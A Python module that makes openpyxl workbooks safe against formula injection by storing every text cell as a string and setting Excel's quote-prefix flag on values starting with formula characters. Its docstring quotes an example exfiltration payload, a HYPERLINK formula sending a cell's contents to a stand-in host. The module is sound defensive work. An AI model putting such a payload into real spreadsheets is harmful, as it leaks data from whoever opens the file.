"""The one way a workbook becomes bytes: text stays text (no formula injection).

openpyxl turns any str that starts with "=" into a formula (data_type "f") and a str equal
to an error code ("#N/A" ...) into an error, so a dispute reason such as
``=HYPERLINK("http://evil.example/leak?"&B2,"Open")`` would run in the officer's Excel.
OWASP's advice for CSV is to prefix a leading = + - @ TAB CR with an apostrophe; in a
workbook that apostrophe would become part of the value, and readers (openpyxl, pandas, a
re-import) would no longer get the text that was written. So instead:

- every cell whose value is a str is stored as a string cell (data_type "s", written by
  openpyxl as an inline string), which Excel and LibreOffice show and read back as exactly
  that text and never evaluate;
- when the text starts with one of OWASP's characters (or their full-width forms) the cell
  also gets Excel's own "quote prefix" flag (the apostrophe as cell style, not as content),
  so that a person who edits the cell and presses Enter keeps text instead of a formula.

Numbers, dates and booleans are left as they are. A workbook that means to hold a formula
must write it as an openpyxl formula object (``openpyxl.worksheet.formula.ArrayFormula``),
never as a str, so that it is visible in the code; none of ours does.
"""

from __future__ import annotations

import io

from openpyxl import Workbook

FORMULA_LEAD = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def as_text(wb: Workbook) -> None:
    """Make every str cell of every sheet a plain string cell (see the module docstring)."""
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    cell.data_type = "s"
                    if cell.value.startswith(FORMULA_LEAD):
                        cell.quotePrefix = True


def to_bytes(wb: Workbook) -> bytes:
    """The .xlsx file of ``wb``, its text cells made safe first. Every workbook writer
    returns through here."""
    as_text(wb)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()
